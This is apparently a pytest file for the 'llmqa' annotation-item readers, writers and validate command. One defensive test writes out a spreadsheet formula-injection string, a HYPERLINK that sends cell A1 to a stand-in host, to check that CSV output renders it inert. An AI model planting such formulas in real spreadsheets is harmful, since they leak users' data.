"""Item readers and writers (JSONL, CSV, Parquet, stdin) and the ``llmqa validate`` command."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from llmqa.cli import app
from llmqa.errors import InputError
from llmqa.io import ReadReport, RowError, detect_format, read_items, write_records
from llmqa.io.validate import ItemChecks
from llmqa.items import Item
from review_helpers import run_main

runner = CliRunner()


def _items() -> list[Item]:
    rows: list[dict[str, Any]] = [
        {"id": "t1", "content": {"modality": "text", "text": "Ünïcode lyrics, ‘quoted’ — dash"},
         "annotations": [{"annotator": "a1", "label": "hate", "clause_id": "HATE-1.1"},
                         {"annotator": "a2", "label": "allowed", "note": "news"}],
         "project": "catalog", "priority": 0.5},
        {"id": "00123", "content": {"modality": "title", "title": "Song \"Title\", with comma"}},
        {"id": "img", "content": {"modality": "image", "image_url": "https://cdn/x.jpg",
                                  "caption": "cover art",
                                  "metadata": {"artist": "X", "year": 1999}},
         "annotations": [{"annotator": "a1", "label": "spam"}]},
        {"id": "aud", "content": {"modality": "audio", "audio_path": "clips/a.mp3",
                                  "transcript": "line one\nline two",
                                  "metadata": {"duration_s": 31.5}}},
    ]
    return [Item.model_validate(row) for row in rows]


def _dump(items: list[Item]) -> list[dict[str, Any]]:
    return [item.model_dump(mode="json") for item in items]


def _read(path: Path | str, fmt: str | None = None, **checks: Any) -> list[Item | RowError]:
    return list(read_items(path, fmt, ItemChecks(**checks) if checks else None))


def _errors(records: list[Item | RowError]) -> list[RowError]:
    return [r for r in records if isinstance(r, RowError)]


def _items_only(records: list[Item | RowError]) -> list[Item]:
    """The records as items, failing on any row error among them."""
    assert not _errors(records), [str(e) for e in _errors(records)]
    return [r for r in records if isinstance(r, Item)]


def _valid(records: list[Item | RowError]) -> list[Item]:
    return [r for r in records if isinstance(r, Item)]


# -- round trips --------------------------------------------------------------------------------

@pytest.mark.parametrize("ext", ["jsonl", "csv", "parquet"])
def test_round_trip_with_write_records(tmp_path: Path, ext: str) -> None:
    items = _items()
    path = tmp_path / f"items.{ext}"
    assert write_records(_dump(items), path) == len(items)
    back = _read(path)
    assert back == items
    assert [i.content_hash() for i in _items_only(back)] == [i.content_hash() for i in items]


def test_flat_column_csv(tmp_path: Path) -> None:
    path = tmp_path / "flat.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "modality", "text", "caption", "image_url", "annotations",
                         "metadata", "priority"])
        writer.writerow(["1", "text", "hello, world", "", "",
                         json.dumps([{"annotator": "a", "label": "spam"}]), "", "2"])
        writer.writerow(["2", "image", "", "a cover", "https://x/y.png", "", '{"k": "v"}', ""])
    first, second = _read(path)
    assert isinstance(first, Item) and isinstance(second, Item)
    assert first.id == "1" and first.content.text == "hello, world"
    assert first.labels() == ["spam"] and first.priority == 2.0
    assert second.content.modality == "image" and second.content.caption == "a cover"
    assert second.content.metadata == {"k": "v"} and second.annotations == []


def test_a_row_without_modality_gets_the_one_its_fields_imply(tmp_path: Path) -> None:
    # A newcomer's first file names the text and the labels, not the modality.
    path = tmp_path / "plain.jsonl"
    rows = [{"id": "t", "content": {"text": "hello"}},
            {"id": "i", "content": {"title": "Cover", "image_url": "https://x/y.png"}},
            {"id": "p", "content": {"title": "Episode 3", "transcript": "so today..."}},
            {"id": "n", "content": {"title": "Track"}},
            {"id": "e", "content": {"text": "x", "modality": ""}},
            {"id": "both", "content": {"text": "blurb", "transcript": "words"}},
            {"id": "media", "content": {"image_url": "a.png", "audio_url": "a.mp3"}},
            {"id": "none", "content": {"caption": "only a caption"}}]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    read = _read(path)
    kept = {r.id: r.content.modality.value for r in read if isinstance(r, Item)}
    assert kept == {"t": "text", "i": "image", "p": "transcript", "n": "title", "e": "text"}
    errors = [str(r) for r in read if isinstance(r, RowError)]
    assert errors == [
        f"{path}:6: content: no modality, and both text and transcript: name the one that was "
        "labelled (modality text or transcript)",
        f"{path}:7: content: no modality, and media of 2 kinds (audio, image): name the one "
        "that was labelled",
        f"{path}:8: content: no modality and nothing to review: give text, transcript, title "
        "or a media path or URL"]
    # Flat CSV columns too, and an explicit modality still wins.
    flat = tmp_path / "flat.csv"
    with open(flat, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "transcript"])
        writer.writerow(["c1", "hello", ""])
    (item,) = _read(flat)
    assert isinstance(item, Item) and item.content.modality == "text"
    explicit = Item.model_validate({"id": "x", "content": {"modality": "title", "title": "T",
                                                           "text": "t"}})
    assert explicit.content.modality == "title"


def test_annotations_as_an_object_are_named_and_null_is_none(tmp_path: Path) -> None:
    path = tmp_path / "objects.jsonl"
    rows = [{"id": "m", "text": "hi", "annotations": {"a1": "spam", "a2": "ham"}},
            {"id": "o", "text": "hi", "annotations": {"annotator": "a1", "label": "spam"}}]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    with path.open("a") as handle:  # pandas' to_json writes a missing cell as null
        handle.write(json.dumps({"id": "n", "text": "hi", "annotations": None}) + "\n")
    by_name, single, unannotated = _read(path)
    assert isinstance(unannotated, Item) and unannotated.annotations == []
    assert str(by_name) == (f"{path}:1: annotations: an object (annotator -> label?); write a "
                            'list, [{"annotator": "a1", "label": "spam"}, ...]')
    assert str(single) == (f"{path}:2: annotations: one annotation, not a list of them; "
                           "put it in a list, [{...}]")


def test_numbered_annotators_and_labels_are_read_as_names(tmp_path: Path) -> None:
    # Crowd platforms number workers and classes; a JSON or Parquet file keeps them numbers.
    path = tmp_path / "numbers.jsonl"
    path.write_text(json.dumps({"id": 7, "text": "hi", "annotations": [
        {"annotator": 17, "label": 0}, {"annotator": 18, "labels": [1, 0]},
        {"annotator": 19, "label": True}]}) + "\n")
    (row,) = _read(path)
    assert str(row) == f"{path}:1: annotations.2.label: Input should be a valid string"
    path.write_text(json.dumps({"id": 7, "text": "hi", "annotations": [
        {"annotator": 17, "label": 0}, {"annotator": 18, "labels": [1, 0]}]}) + "\n")
    (item,) = _read(path)
    assert isinstance(item, Item) and [(a.annotator, a.label) for a in item.annotations] == [
        ("17", "0"), ("18", "0+1")]
    parquet = tmp_path / "long.parquet"
    pq.write_table(pa.table({"id": [1, 1], "text": ["a", "a"], "annotator": [5, 6],
                             "label": [0, 1]}), parquet)
    (item,) = _read(parquet)
    assert isinstance(item, Item) and sorted(item.labels()) == ["0", "1"]


def test_json_columns_kept_as_text_by_a_csv_to_jsonl_conversion_are_read(tmp_path: Path) -> None:
    # pandas.read_csv(...).to_json(orient="records", lines=True) keeps JSON cells as strings.
    path = tmp_path / "converted.jsonl"
    rows = [{"id": "1", "text": "hi", "metadata": '{"show": "x"}',
             "annotations": '[{"annotator": "a", "label": "spam"}]'},
            {"id": "2", "text": "hi", "annotations": '"spam"'}]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    item, wrong = _read(path)
    assert isinstance(item, Item) and item.labels() == ["spam"]
    assert item.content.metadata == {"show": "x"}
    assert str(wrong) == f"{path}:2: annotations: Input should be a valid list"


def test_jsonl_content_fields_may_sit_flat_and_a_bare_label_is_named(tmp_path: Path) -> None:
    path = tmp_path / "flat.jsonl"
    rows = [{"id": "f", "text": "hello", "metadata": {"k": "v"},
             "annotations": [{"annotator": "a", "label": "spam"}]},
            {"id": "b", "text": "hi", "annotations": ["spam"]}]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    first, second = _read(path)
    assert isinstance(first, Item) and first.content.text == "hello"
    assert first.content.metadata == {"k": "v"} and first.labels() == ["spam"]
    assert isinstance(second, RowError)
    assert str(second) == (f"{path}:2: annotations.0: a bare label ('spam'): an annotation is "
                           'an object naming its annotator, {"annotator": "...", "label": '
                           '"spam"}')
    array = tmp_path / "flat.json"
    array.write_text(json.dumps(rows[:1]), encoding="utf-8")
    (item,) = _read(array)
    assert isinstance(item, Item) and item.content.text == "hello"


def test_one_row_per_annotation_is_grouped_by_item(tmp_path: Path) -> None:
    # The spreadsheet shape: id, content, annotator, label, one row per annotation.
    path = tmp_path / "long.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "project", "text", "annotator", "label", "clause_id", "note"])
        writer.writerow(["1", "p", "hello", "a", "spam", "SPAM-1.1", ""])
        writer.writerow(["2", "p", "bye", "a", "allowed", "", ""])
        writer.writerow(["1", "p", "hello", "b", "allowed", "", "unsure"])
        writer.writerow(["1", "p", "hello!", "c", "spam", "", ""])  # another text: refused
        writer.writerow(["3", "p", "x", "", "spam", "", ""])  # no annotator: refused
        writer.writerow(["4", "p", "unrated", "", "", "", ""])
    read = _read(path)
    items = [r for r in read if isinstance(r, Item)]
    assert [i.id for i in items] == ["1", "2", "3", "4"]  # first appearance order
    first = items[0]
    assert [(a.annotator, a.label, a.clause_id, a.note) for a in first.annotations] == [
        ("a", "spam", "SPAM-1.1", None), ("b", "allowed", None, "unsure")]
    assert first.project == "p" and first.content.text == "hello"
    assert items[2].annotations == [] and items[3].annotations == []
    errors = [str(r) for r in read if isinstance(r, RowError)]
    assert errors == [f"{path}:5: text: differs from line 2, where item 1 first appears: every "
                      "row of an item repeats its fields",
                      f"{path}:6: annotator: Field required"]
    # Several labels per answer in a labels column; an annotator's second row is refused.
    multi = tmp_path / "multi.csv"
    with open(multi, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "annotator", "labels"])
        writer.writerow(["m", "t", "a", json.dumps(["hate", "harassment"])])
        writer.writerow(["m", "t", "b", json.dumps(["hate"])])
        writer.writerow(["m", "t", "a", json.dumps(["spam"])])
        writer.writerow(["m", "t", "c", "hate;spam"])
    read = _read(multi)
    (item,) = [r for r in read if isinstance(r, Item)]
    assert [a.label for a in item.annotations] == ["harassment+hate", "hate"]
    assert [str(r) for r in read if isinstance(r, RowError)] == [
        f"{multi}:4: annotator: a already rated item m on line 2: one row per annotator and "
        "item (several labels go in one row's labels, as a JSON list)",
        f"{multi}:5: labels: not a JSON list of labels (Expecting value)"]
    # Parquet, the same shape.
    parquet = tmp_path / "long.parquet"
    pq.write_table(pa.table({"id": ["x", "x", "y"], "text": ["t", "t", "u"],
                             "annotator": ["a", "b", "a"], "label": ["hate", "allowed", "hate"]}),
                   parquet)
    grouped = _read(parquet)
    assert [(i.id, i.labels()) for i in grouped if isinstance(i, Item)] == [
        ("x", ["hate", "allowed"]), ("y", ["hate"])]


def test_json_column_csv(tmp_path: Path) -> None:
    path = tmp_path / "nested.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "content", "annotations"])
        writer.writerow(["x", json.dumps({"modality": "transcript", "transcript": "a\nb"}),
                         json.dumps([{"annotator": "r", "label": "hate"}])])
    (item,) = _read(path)
    assert isinstance(item, Item)
    assert item.content.transcript == "a\nb" and item.labels() == ["hate"]


def test_csv_with_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeffid,modality,text\r\n1,text,hi\r\n".encode())
    (item,) = _read(path)
    assert isinstance(item, Item) and item.id == "1"


def test_semicolon_csv_and_tsv_are_read_by_their_header(tmp_path: Path) -> None:
    # Excel saves "CSV" with semicolons where a comma is the decimal separator; a comma inside
    # a cell must not split it then, and a .tsv file is read the same way.
    semi = tmp_path / "excel.csv"
    semi.write_bytes("\ufeffid;text;annotator;label\r\nx1;hi, there;a1;hate\r\n"
                     "x1;hi, there;a2;allowed\r\nx2;\"two\r\nlines\";a1;hate\r\n".encode())
    x1, x2 = _read(semi)
    assert isinstance(x1, Item) and isinstance(x2, Item)
    assert x1.content.text == "hi, there" and sorted(x1.labels()) == ["allowed", "hate"]
    assert x2.content.text == "two\r\nlines"
    tsv = tmp_path / "items.tsv"
    tsv.write_text("id\ttext\tannotations\n"
                   f"t1\ta; b, c\t{json.dumps([{'annotator': 'r', 'label': 'spam'}])}\n")
    (item,) = _read(tsv)
    assert isinstance(item, Item) and item.content.text == "a; b, c" and item.labels() == ["spam"]
    assert detect_format("x.TSV") == "csv"
    typed = tmp_path / "typed.csv"
    typed.write_text('id, text, annotations\n1, hi, "[]"\n')
    (item,) = _read(typed)
    assert isinstance(item, Item) and item.content.text == "hi"
    with pytest.raises(InputError, match="workbook is not read; save the sheet as CSV"):
        detect_format("batch.xlsx")


def test_a_semicolon_csv_reads_decimal_commas_in_number_columns(tmp_path: Path) -> None:
    # Where Excel writes semicolons it writes 1,5 for one and a half; a plain number, a
    # comma in text and a priority that is no number at all are left as they are.
    path = tmp_path / "excel.csv"
    path.write_bytes(b"id;text;annotator;label;priority\r\n"
                     b"a;1,5 stars;r1;hate;1,5\r\nb;hi;r1;hate;2\r\nc;hi;r1;hate;1,5,2\r\n")
    a, b, c = _read(path)
    assert isinstance(a, Item) and a.priority == 1.5 and a.content.text == "1,5 stars"
    assert isinstance(b, Item) and b.priority == 2
    assert isinstance(c, RowError) and c.line == 4 and c.field == "priority"
    comma = tmp_path / "comma.csv"  # a comma-separated file has no decimal comma to read
    comma.write_text('id,text,priority\nd,hi,"1,5"\n')
    (d,) = _read(comma)
    assert isinstance(d, RowError) and d.field == "priority"


def test_a_label_beside_the_item_is_pointed_to_annotations(tmp_path: Path) -> None:
    path = tmp_path / "final.jsonl"  # one final label per item, as a vendor delivers them
    path.write_text(json.dumps({"id": "1", "text": "hi", "label": "spam"}) + "\n")
    (row,) = _read(path)
    assert str(row) == (f'{path}:1: label: not an item field: labels go in "annotations": '
                        '[{"annotator": "...", "label": "..."}], one per annotator (one '
                        "labeller too)")


def test_a_column_of_python_literals_from_pandas_is_named(tmp_path: Path) -> None:
    import pandas as pd

    path = tmp_path / "frame.csv"
    pd.DataFrame({"id": ["1"], "text": ["a"], "annotations": [[{"annotator": "a", "label": "x"}]]}
                 ).to_csv(path, index=False)
    (row,) = _read(path)
    assert str(row) == (f"{path}:2: annotations: a Python literal, not JSON (as pandas' to_csv "
                        "writes a column of lists or dicts): write the column as JSON, "
                        "df[column].map(json.dumps)")
    path.write_text('id,text,annotations\n1,a,"[{annotator: a}]"\n')
    (row,) = _read(path)
    assert str(row) == (f"{path}:2: annotations: malformed JSON in column: Expecting property "
                        "name enclosed in double quotes")


def test_a_csv_header_naming_a_column_twice_is_refused(tmp_path: Path) -> None:
    # Read as a dict, the second 'text' cell would replace the first without a word.
    path = tmp_path / "twice.csv"
    path.write_text("id,text, text,annotations\n1,a,b,[]\n")
    with pytest.raises(InputError, match=r"twice.csv: the header row names 'text' more than once"):
        _read(path)


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_inert(tmp_path: Path) -> None:
    # Content under review is untrusted: a tweet "=HYPERLINK(...)" must stay text in Excel,
    # and read back as it was.
    texts = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@user hi", "-1", "'=kept",
             "+44 20 7946 0000", "plain"]
    rows = [{"id": f"f{n}", "text": text, "annotations": [{"annotator": "a", "label": "spam"}]}
            for n, text in enumerate(texts)]
    path = tmp_path / "items.csv"
    write_records(rows, path)
    cells = [row["text"] for row in csv.DictReader(io.StringIO(path.read_text("utf-8-sig")))]
    assert cells == ["'" + texts[0], "'@user hi", "-1", "''=kept", "'+44 20 7946 0000", "plain"]
    assert [i.content.text for i in _valid(_read(path))] == texts


def test_a_tsv_output_is_tab_separated_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "items.TSV"
    rows = _dump(_items())
    assert write_records(rows, path) == len(rows)
    assert path.read_text(encoding="utf-8-sig").split("\n")[0].startswith("id\tcontent\t")
    assert [r.model_dump() for r in _items_only(_read(path))] == [
        i.model_dump() for i in _items()]


def test_a_file_without_an_id_column_is_refused_once(tmp_path: Path, capsys: Any) -> None:
    upper = tmp_path / "upper.csv"
    upper.write_text("ID,text\n1,hi\n2,ho\n")
    with pytest.raises(InputError, match=r"no 'id' column .*rename 'ID' to 'id'"):
        _read(upper)
    jsonl = tmp_path / "items.jsonl"
    jsonl.write_text(json.dumps(_dump(_items())[0]) + "\n")
    code, _, err = run_main(["validate", str(jsonl), "--input-format", "csv"], capsys)
    assert code == 1
    assert err.strip() == (f"error: {jsonl}: the first line is JSON, not a CSV header row; read "
                           "it as JSONL: --input-format jsonl")


def test_jsonl_with_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "bom.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(_dump(_items())[0]).encode() + b"\n")
    (item,) = _read(path)
    assert isinstance(item, Item) and item.id == "t1"


def test_parquet_with_nested_columns(tmp_path: Path) -> None:
    table = pa.table({
        "id": ["p1", "p2", "p3"],
        "content": [
            {"modality": "text", "text": "hello", "metadata": {"lang": "en", "n": None}},
            {"modality": "video", "video_url": "https://v/1.mp4", "caption": "clip",
             "metadata": {"lang": None, "n": 3}},
            {"modality": "title", "title": "A title", "metadata": None},
        ],
        "annotations": [
            [{"annotator": "a", "label": "hate", "clause_id": "HATE-1.1"}],
            [],
            [{"annotator": "b", "label": "allowed", "clause_id": None}],
        ],
        "priority": [1.0, None, 0.0],
    })
    path = tmp_path / "nested.parquet"
    pq.write_table(table, path)
    records = _read(path)
    assert not _errors(records)
    p1, p2, p3 = _valid(records)
    assert p1.content.metadata == {"lang": "en"} and p1.annotations[0].clause_id == "HATE-1.1"
    assert p2.content.modality == "video" and p2.content.metadata == {"n": 3}
    assert p2.priority is None and p3.priority == 0.0 and p3.labels() == ["allowed"]


def test_parquet_flat_columns_and_bad_rows(tmp_path: Path) -> None:
    table = pa.table({"id": ["a", "b", "c"], "modality": ["text", "text", "hologram"],
                      "text": ["one", None, "three"]})
    path = tmp_path / "flat.parquet"
    pq.write_table(table, path)
    records = _read(path)
    assert [r.id for r in _valid(records)] == ["a"]
    missing, unknown = _errors(records)
    assert (missing.line, missing.field) == (2, "content")
    assert (unknown.line, unknown.field) == (3, "content.modality")
    assert "hologram" in unknown.message


def test_unreadable_parquet_is_an_input_error(tmp_path: Path) -> None:
    path = tmp_path / "broken.parquet"
    path.write_bytes(b"not parquet at all")
    with pytest.raises(InputError, match="not a readable Parquet file"):
        _read(path)


def test_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    data = "\n".join(json.dumps(row) for row in _dump(_items())) + "\n"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data.encode())))
    back = _read("-")
    assert back == _items()


def test_formats_and_missing_files(tmp_path: Path) -> None:
    assert detect_format("x.ndjson") == "jsonl" and detect_format("x.PQ") == "parquet"
    assert detect_format("-") == "jsonl" and detect_format("x.txt", "csv") == "csv"
    with pytest.raises(InputError, match="cannot tell the format from the file name") as found:
        detect_format("items.txt")
    # The library names the option, never a CLI flag; the CLI phrases it as --input-format.
    assert found.value.hint is not None and found.value.hint.options == ("input_format",)
    assert "--" not in str(found.value)
    with pytest.raises(InputError, match="unknown format"):
        detect_format("x.csv", "xlsx")
    with pytest.raises(InputError, match="no such file"):
        _read(tmp_path / "absent.jsonl")


# -- bad input ----------------------------------------------------------------------------------

GOOD_FIRST = {"id": "g1", "content": {"modality": "text", "text": "fine"},
              "annotations": [{"annotator": "a", "label": "hate", "clause_id": "HATE-1.1"}]}
GOOD_LAST = {"id": "g2", "content": {"modality": "title", "title": "ok"}}


def _bad_jsonl(path: Path) -> Path:
    lines: list[bytes] = [
        json.dumps(GOOD_FIRST).encode(),                                              # 1
        b'{"id": "m1", "content": {"modality": "text", "text": "unterminated}',      # 2
        json.dumps({"content": {"modality": "text", "text": "no id"}}).encode(),      # 3
        json.dumps({"id": "u1", "content": {"modality": "podcast", "text": "x"}}).encode(),  # 4
        json.dumps({"id": "c1", "content": {"modality": "image", "caption": "x"}}).encode(),  # 5
        b"",                                                                          # 6 blank
        '{"id": "n1", "content": {"modality": "text", "text": "caf\xe9"}}'.encode("latin-1"),  # 7
        b'["id", "a1"]',                                                              # 8
        json.dumps(GOOD_FIRST).encode(),                                              # 9 dup id
        json.dumps({"id": "l1", "content": {"modality": "text", "text": "x"},
                    "annotations": [{"annotator": "a", "label": "violence"}]}).encode(),  # 10
        json.dumps({"id": "k1", "content": {"modality": "text", "text": "x"},
                    "annotations": [{"annotator": "a", "label": "hate",
                                     "clause_id": "HATE-9.9"}]}).encode(),            # 11
        json.dumps(GOOD_LAST).encode(),                                               # 12
    ]
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


def test_bad_rows_name_file_line_and_field(tmp_path: Path) -> None:
    path = _bad_jsonl(tmp_path / "bad.jsonl")
    records = _read(path, labels={"hate", "spam", "allowed"}, clause_ids={"HATE-1.1"})
    assert [i.id for i in _valid(records)] == ["g1", "g2"]  # the rest of the file is still read
    errors = {e.line: e for e in _errors(records)}
    assert sorted(errors) == [2, 3, 4, 5, 7, 8, 9, 10, 11]
    assert all(e.source == str(path) for e in errors.values())
    expected: dict[int, tuple[str | None, str]] = {
        2: (None, "malformed JSON"),
        3: ("id", "Field required"),
        4: ("content.modality", "unknown value 'podcast'"),
        5: ("content", "needs one of: image_path, image_url"),
        7: (None, "not valid UTF-8"),
        8: (None, "expected a JSON object, got list"),
        9: ("id", "duplicate item id 'g1'"),
        10: ("annotations.0.label", "'violence' from a is not in the guideline label set"),
        11: ("annotations.0.clause_id", "unknown clause 'HATE-9.9'"),
    }
    for line, (field, fragment) in expected.items():
        assert errors[line].field == field, errors[line]
        assert fragment in errors[line].message, errors[line]
        assert str(errors[line]).startswith(f"{path}:{line}: ")


def test_empty_and_blank_files(tmp_path: Path) -> None:
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    blank = tmp_path / "blank.jsonl"
    blank.write_bytes(b"\n  \n\n")
    assert _read(empty) == [] and _read(blank) == []
    empty_csv = tmp_path / "empty.csv"
    empty_csv.write_bytes(b"")
    assert _read(empty_csv) == []
    report = ReadReport()
    assert not report.ok  # nothing read is not a success


def test_csv_bad_rows_and_non_utf8_row(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    rows = [
        b"id,modality,text,annotations",
        b"1,text,good,",
        "2,text,caf\xe9 latin-1,".encode("latin-1"),
        b'3,text,x,"[{""annotator"": ""a"""',
        b'4,text,"a quoted field',
        b'over two lines",',
        b"5,selfie,x,",
        b"6,text,also good,",
    ]
    path.write_bytes(b"\r\n".join(rows) + b"\r\n")
    records = _read(path)
    assert [i.id for i in _valid(records)] == ["1", "4", "6"]
    assert _valid(records)[1].content.text == "a quoted field\r\nover two lines"
    errors = {e.line: e for e in _errors(records)}
    assert sorted(errors) == [3, 4, 7]  # CSV lines are physical lines of the file
    assert errors[3].field is None and "not valid UTF-8" in errors[3].message
    assert errors[4].field == "annotations" and "malformed JSON" in errors[4].message
    assert errors[7].field == "content.modality" and "selfie" in errors[7].message


def test_csv_non_utf8_header(tmp_path: Path) -> None:
    path = tmp_path / "latin.csv"
    path.write_bytes("id,modality,t\xe9xt\n1,text,x\n".encode("latin-1"))
    (error,) = _read(path)
    assert isinstance(error, RowError) and error.line == 1 and "header" in error.message


def test_report_keeps_a_bounded_number_of_errors(tmp_path: Path) -> None:
    path = tmp_path / "many.jsonl"
    path.write_text("not json\n" * 30, encoding="utf-8")
    report = ReadReport(max_errors_kept=5)
    for record in read_items(path):
        report.add(record)
    assert report.rejected == 30 and len(report.errors) == 5 and not report.ok


# -- llmqa validate -----------------------------------------------------------------------------

def _good_file(folder: Path, rows: int = 3) -> Path:
    path = folder / "good.jsonl"
    write_records(_dump(_items())[:rows], path)
    return path


def test_validate_valid_file(tmp_home: Path) -> None:
    result = runner.invoke(app, ["validate", str(_good_file(tmp_home))])
    assert result.exit_code == 0, result.output
    assert "3 valid items, 0 rejected" in result.stdout
    assert "image 1" in result.stdout and "text 1" in result.stdout


def test_validate_rejects_rows_exit_1(tmp_home: Path) -> None:
    path = _bad_jsonl(tmp_home / "bad.jsonl")
    result = runner.invoke(app, ["validate", str(path), "--no-guidelines"])
    assert result.exit_code == 1
    # Without guidelines the label and clause checks are off: rows 10 and 11 are valid.
    assert "4 valid items, 7 rejected" in result.stdout
    assert f"{path}:4: content.modality: unknown value 'podcast'" in result.output
    assert "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)


def test_a_label_near_a_guideline_label_is_named_with_it() -> None:
    checks = ItemChecks({"hate", "self_harm", "allowed"}, None)
    rows = {"Hate": "'hate'", "self-harm": "'self_harm'", "hateful": "'hate'", "music": None}
    for given, meant in rows.items():
        item = Item.model_validate({"id": given, "content": {"text": "x"},
                                    "annotations": [{"annotator": "a", "label": given}]})
        _, message = checks(item) or ("", "")
        assert message.endswith(f"label set (did you mean {meant}?)" if meant else "label set")
    clauses = ItemChecks(None, {"HATE-1.1", "SPAM-2.1"})
    cited = Item.model_validate({"id": "c", "content": {"text": "x"}, "annotations": [
        {"annotator": "a", "label": "hate", "clause_id": "hate-1.1"}]})
    assert clauses(cited) == ("annotations.0.clause_id", "item c: unknown clause 'hate-1.1' "
                              "(did you mean 'HATE-1.1'?)")


def test_validate_against_guidelines(tmp_home: Path, tiny_guidelines: Path) -> None:
    path = _bad_jsonl(tmp_home / "bad.jsonl")
    # guidelines/ in the working folder is found without --guidelines.
    result = runner.invoke(app, ["validate", str(path), "--json"])
    assert result.exit_code == 1
    payload = json.loads(result.stdout)
    assert payload["valid"] == 2 and payload["rejected"] == 9
    assert payload["modalities"] == {"text": 1, "title": 1}
    assert any("'violence'" in e and ":10:" in e for e in payload["errors"])
    assert any("HATE-9.9" in e and ":11:" in e for e in payload["errors"])
    assert payload["unknown_labels"] == {"violence": 1}
    # For people: every label outside the guidelines counted, and what to do about it.
    result = runner.invoke(app, ["validate", str(path)])
    assert ("labels outside the guidelines: violence ×1; theirs are allowed, " in result.output
            and "name the right guidelines with --guidelines, or skip the label check with "
            "--no-guidelines" in result.output and "no row passed" not in result.output)


def test_validate_json_valid(tmp_home: Path) -> None:
    result = runner.invoke(app, ["validate", str(_good_file(tmp_home)), "--json"])
    assert result.exit_code == 0
    assert json.loads(result.stdout) | {"source": ""} == {
        "source": "", "valid": 3, "rejected": 0, "errors": [], "problems": [],
        "modalities": {"text": 1, "title": 1, "image": 1}, "unknown_labels": {},
        "label_warnings": [], "rated_twice": 0, "rated_twice_first": []}


def test_validate_names_an_item_one_annotator_rated_twice(tmp_home: Path) -> None:
    # Read, but agreement and triage count only the first: the file's owner should know.
    path = tmp_home / "twice.jsonl"
    ratings = [("a1", "spam"), ("a1", "ham"), ("a2", "ham")]
    path.write_text(json.dumps({"id": "i1", "text": "hi", "annotations": [
        {"annotator": who, "label": label} for who, label in ratings]}) + "\n")
    result = runner.invoke(app, ["validate", str(path), "--no-guidelines"])
    assert result.exit_code == 0
    assert ("1 item rated more than once by one annotator (first: item i1, a1); agreement and "
            "triage count each annotator's first rating") in result.output


def test_validate_empty_file(tmp_home: Path) -> None:
    (tmp_home / "empty.jsonl").write_bytes(b"")
    result = runner.invoke(app, ["validate", "empty.jsonl"])
    assert result.exit_code == 1
    assert "no items found" in result.output and "Traceback" not in result.output


def test_validate_stdin_and_max_errors(tmp_home: Path) -> None:
    data = "\n".join(json.dumps(r) for r in _dump(_items())) + "\n" + "oops\n" * 4
    result = runner.invoke(app, ["validate", "-", "--max-errors", "2"], input=data)
    assert result.exit_code == 1
    assert "4 valid items, 4 rejected" in result.stdout
    assert "<stdin>:5: malformed JSON" in result.output
    assert "... and 2 more rejected rows" in result.output


def test_validate_csv_and_parquet(tmp_home: Path) -> None:
    for ext in ("csv", "parquet"):
        path = tmp_home / f"items.{ext}"
        write_records(_dump(_items()), path)
        result = runner.invoke(app, ["validate", str(path)])
        assert result.exit_code == 0, result.output
        assert "4 valid items, 0 rejected" in result.stdout


def test_validate_memory_benchmark_runs() -> None:
    """benchmarks/bench_validate_memory.py on a small size (smoke test)."""
    import subprocess

    script = Path(__file__).resolve().parent.parent / "benchmarks" / "bench_validate_memory.py"
    done = subprocess.run([sys.executable, str(script), "--sizes", "300"], capture_output=True,
                          text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "peak RSS" in done.stdout and "     300 " in done.stdout
